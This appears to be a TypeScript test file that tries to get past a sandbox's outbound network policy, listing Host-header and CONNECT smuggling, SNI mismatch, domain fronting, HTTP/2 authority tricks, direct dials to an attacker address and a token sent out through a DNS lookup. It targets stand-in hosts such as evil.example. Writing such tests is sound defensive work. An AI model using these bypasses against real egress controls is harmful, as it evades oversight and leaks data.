/** Connections whose names do not agree: with each other, or with the address they go to. */
import { ask } from '../../../../support/internet/sandbox.ts'
import { addresses as at } from '../../../../support/internet/network.ts'
import type { Attempt, Try } from './attempt.ts'

const request = (token: string, host: string): string =>
  `GET /${token} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`

const inTunnel = (
  name: string,
  authority: string,
  bytes: (token: string) => string,
  passesWhenOpen = false,
): Attempt => ({
  name,
  passesWhenOpen,
  async run({ sandbox, token }) {
    const socket = await sandbox.tunnel(authority)
    if ('write' in socket) await ask(socket, bytes(token))
  },
})

/** TLS through CONNECT, then a request inside. */
const inTls = (name: string, authority: string, servername: string, host: string, policy?: object): Attempt => ({
  name,
  passesWhenOpen: false,
  ...(policy && { policy }),
  async run({ sandbox, token }) {
    const socket = await sandbox.tunnel(authority)
    if (!('write' in socket)) return
    const secured = await sandbox.tls(socket, servername ? { servername } : {})
    if (!secured.destroyed) await ask(secured, request(token, host))
  },
})

/** Past the proxy: the network brings it to the engine all the same. */
const redirected = (
  name: string,
  address: string,
  port: number,
  tls: string | undefined,
  host: string,
  before?: (on: Try) => Promise<unknown>,
): Attempt => ({
  name,
  passesWhenOpen: tls === undefined || before !== undefined || host !== tls,
  async run(on) {
    await before?.(on)
    const socket = await on.sandbox.dial(address, port)
    if (tls === undefined) return ask(socket, request(on.token, host))
    const secured = await on.sandbox.tls(socket, tls === '' ? {} : { servername: tls })
    return secured.destroyed ? undefined : ask(secured, request(on.token, host))
  },
})

const lookUp = (name: string) => (on: Try) => on.sandbox.resolve(name)

const h2 = (name: string, pseudo: Record<string, string>, passesWhenOpen = false): Attempt => ({
  name,
  passesWhenOpen,
  policy: { allowedDomains: ['open.example/'] },
  async run({ sandbox, token }) {
    const socket = await sandbox.tunnel('open.example:443')
    if (!('write' in socket)) return
    const secured = await sandbox.tls(socket, { servername: 'open.example', ALPNProtocols: ['h2'] })
    const session = await sandbox.h2(secured, 'open.example')
    const path = pseudo[':method'] === 'CONNECT' ? {} : { ':path': `/${token}` }
    const stream = session.request({ ...path, ':authority': 'open.example', ...pseudo })
    await new Promise<void>(resolve => {
      setTimeout(resolve, 3_000)
      stream.on('response', () => resolve())
      stream.on('error', () => resolve())
      stream.on('close', () => resolve())
    })
    session.destroy()
  },
})

export const agreement: readonly Attempt[] = [
  {
    name: 'absolute form for one host, Host for another',
    passesWhenOpen: false,
    run: ({ sandbox, token }) => sandbox.get(`http://open.example/${token}`, { host: 'evil.example' }),
  },
  {
    name: 'two Host headers',
    passesWhenOpen: false,
    run: ({ sandbox, token }) =>
      sandbox.say(`GET http://open.example/${token} HTTP/1.1\r\nHost: open.example\r\nHost: evil.example\r\n\r\n`),
  },
  {
    name: 'CONNECT for one host, its Host header for another',
    passesWhenOpen: false,
    async run({ sandbox, token }) {
      await sandbox.say(
        `CONNECT open.example:80 HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /${token} HTTP/1.1\r\nHost: open.example\r\n\r\n`,
      )
    },
  },
  inTunnel('plain HTTP in a tunnel, for another host', 'open.example:80', token => request(token, 'evil.example')),
  inTunnel('the same after empty lines', 'open.example:80', token => `\r\n\r\n\n${request(token, 'evil.example')}`),
  inTunnel('the same after a blank', 'open.example:80', token => ` ${request(token, 'evil.example')}`),
  inTunnel('the same with a method in small letters', 'open.example:80', token =>
    request(token, 'evil.example').replace('GET', 'get'),
  ),
  inTunnel('the same in HTTP/1.0', 'open.example:80', token => request(token, 'evil.example').replace('1.1', '1.0')),
  inTunnel(
    'the same as the second request',
    'open.example:80',
    token => `GET / HTTP/1.1\r\nHost: open.example\r\n\r\n${request(token, 'evil.example')}`,
  ),
  inTunnel(
    'an absolute address in a tunnel',
    'open.example:80',
    token => `GET http://evil.example/${token} HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
  ),
  inTunnel(
    'CONNECT in a tunnel',
    'open.example:80',
    token => `CONNECT evil.example:80 HTTP/1.1\r\nHost: open.example\r\n\r\n${request(token, 'evil.example')}`,
  ),
  inTls('SNI that differs from CONNECT', 'open.example:443', 'evil.example', 'evil.example'),
  inTls('no SNI, and another Host inside', 'open.example:443', '', 'evil.example'),
  inTls('another Host in TLS that is opened (domain fronting)', 'open.example:443', 'open.example', 'evil.example', {
    allowedDomains: ['open.example/'],
  }),
  inTls('another Host in TLS that is always opened', 'open.example:443', 'open.example', 'evil.example', {
    allowedDomains: ['open.example'],
    canary: 'strict',
  }),
  inTls('a server whose certificate has another name, opened', 'mail.example:8443', 'mail.example', 'mail.example', {
    allowedDomains: ['mail.example/'],
  }),
  h2('HTTP/2: another :authority', { ':authority': 'evil.example' }),
  h2('HTTP/2: another host header', { host: 'evil.example' }),
  h2('HTTP/2: another scheme', { ':scheme': 'http' }),
  h2('HTTP/2: CONNECT', { ':method': 'CONNECT', ':authority': 'evil.example:80' }),
  redirected('redirected: an address that was never looked up', at.attacker, 80, undefined, 'attacker.example'),
  redirected(
    'redirected: an allowed name at the attacker’s address',
    at.attacker,
    80,
    undefined,
    'open.example',
    lookUp('open.example'),
  ),
  redirected(
    'redirected: another name at an allowed address',
    at.cdn,
    80,
    undefined,
    'evil.example',
    lookUp('open.example'),
  ),
  redirected('redirected: no Host at an allowed address', at.cdn, 80, undefined, '', lookUp('open.example')),
  redirected(
    'redirected: SNI of an allowed name at the attacker’s address',
    at.attacker,
    443,
    'open.example',
    'open.example',
    lookUp('open.example'),
  ),
  redirected(
    'redirected: SNI of another name at an allowed address',
    at.cdn,
    443,
    'evil.example',
    'evil.example',
    lookUp('open.example'),
  ),
  redirected('redirected: no SNI at an allowed address', at.cdn, 443, '', 'evil.example', lookUp('open.example')),
  {
    name: 'redirected: an address that a neighbour has looked up',
    passesWhenOpen: false,
    policy: { allowedDomains: ['open.example'] },
    async run({ neighbour, sandbox, names, egress, token }) {
      names.table.set('mine.example', [at.attacker])
      egress.setPolicy('neighbour', { allowedDomains: ['mine.example'] })
      await neighbour.resolve('mine.example')
      return ask(await sandbox.dial(at.attacker, 7000), token)
    },
  },
  {
    name: 'a sandbox without a policy',
    passesWhenOpen: false,
    async run({ neighbour, egress, token }) {
      egress.remove('neighbour')
      await neighbour.get(`http://open.example/${token}`)
      await ask(await neighbour.dial(at.cdn, 80), request(token, 'open.example'))
      await neighbour.resolve(`${token}.open.example`)
    },
  },
]
